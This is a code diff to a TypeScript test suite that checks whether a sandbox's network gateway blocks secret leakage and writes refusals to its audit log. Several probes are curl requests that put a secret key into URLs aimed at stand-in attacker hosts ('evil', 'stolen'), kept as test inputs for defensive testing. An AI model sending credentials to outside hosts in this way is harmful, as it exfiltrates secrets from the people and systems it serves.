@@ -2,7 +2,7 @@ import { dirname, join } from "node:path";
 import { auditPath } from "../../cage/audit_log.ts";
 import { loadConfig } from "../../config/layers.ts";
 import { UserError } from "../../errors.ts";
-import { ensurePrivateDir } from "../../files.ts";
+import { ensurePrivateDir, removeIfPresent } from "../../files.ts";
 import { CONFIG_FILE } from "../../names.ts";
 import type { Finding } from "../case.ts";
 import { BAD_CERTIFICATES } from "../internet/certificates.ts";
@@ -10,7 +10,7 @@ import { tellLeaks } from "../internet/guarded_suite.ts";
 import type { GuardedCage } from "../internet/guarded.ts";
 import { curl, everyProxy } from "../internet/probes.ts";
 import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
-import { ask } from "./going_out.ts";
+import { ask, BEARER } from "./asking.ts";
 import { isAnswered, isDenied, listValuesIn, lookFor, openAudit } from "./seen.ts";
 
 const SUITE = "secrets";
@@ -89,12 +89,12 @@ async function checkAudit({ guarded }: SecretsGiven): Promise<Finding> {
   const path = auditPath(guarded.cage.dir);
   const kept = `${path}.kept`;
   await Deno.rename(path, kept);
-  // Nobody can append to a directory, whoever they are.
-  await Deno.mkdir(path);
   let wasRefused: boolean | undefined;
   let refused: string[];
   let leaks: string[];
   try {
+    // Nobody can append to a directory, whoever they are.
+    await Deno.mkdir(path);
     wasRefused = await lookFor(async () => {
       const outcomes = await guarded.probe([curl("refusal", [ALLOWED])]);
       return isDenied(outcomes.get("refusal").data, "audit") || undefined;
@@ -105,13 +105,13 @@ async function checkAudit({ guarded }: SecretsGiven): Promise<Finding> {
       curl("a tunnel", [`https://${SITE.closed}/`]),
       curl("a tunnel that is opened", [`https://${SITE.opened}/`]),
       curl("no proxy", [`https://${SITE.closed}/`], { env: everyProxy(null) }),
-      ask("a secret", `-H "authorization: Bearer $PROBE_KEY" https://${SITE.own}/`),
+      ask("a secret", `${BEARER} https://${SITE.own}/`),
     ]);
     refused = outcomes.all.filter(({ data }) => isAnswered(data))
       .map(({ id }) => `${id} was sent on`);
     leaks = await tellLeaks(internet);
   } finally {
-    await Deno.remove(path);
+    await removeIfPresent(path);
     await Deno.rename(kept, path);
   }
   const isOpen = await waitOpen(guarded);
@@ -135,7 +135,6 @@ async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> 
   const { echo, decoy } = guarded.internet.addresses;
   const log = await openAudit(guarded);
   guarded.internet.script(SITE.stolen, { answers: [[decoy]] });
-  const bearer = '-H "authorization: Bearer $PROBE_KEY"';
   const refused = [
     curl("an unlisted host's path", [`http://${SITE.evil}/${value}/x`]),
     curl("an unlisted host's query", [`http://${SITE.evil}/?x=${value}`]),
@@ -149,9 +148,9 @@ async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> 
   const outcomes = await guarded.probe([
     ...refused,
     // The value was put in, or would have been, when something went wrong behind the gateway.
-    ask("a wrong certificate", `${bearer} "https://${BAD_CERTIFICATES.expired}/?x=$PROBE_KEY"`),
-    ask("a stolen address", `${bearer} "https://${SITE.stolen}/?x=$PROBE_KEY"`),
-    ask("an answer that breaks off", `-i ${bearer} "https://${SITE.own}/reset?x=$PROBE_KEY"`),
+    ask("a wrong certificate", `${BEARER} "https://${BAD_CERTIFICATES.expired}/?x=$PROBE_KEY"`),
+    ask("a stolen address", `${BEARER} "https://${SITE.stolen}/?x=$PROBE_KEY"`),
+    ask("an answer that breaks off", `-i ${BEARER} "https://${SITE.own}/reset?x=$PROBE_KEY"`),
   ]);
   guarded.internet.script(SITE.stolen, { answers: [[echo]] });
   const lines = await log.wait(({ decision }) => decision === "deny", refused.length);
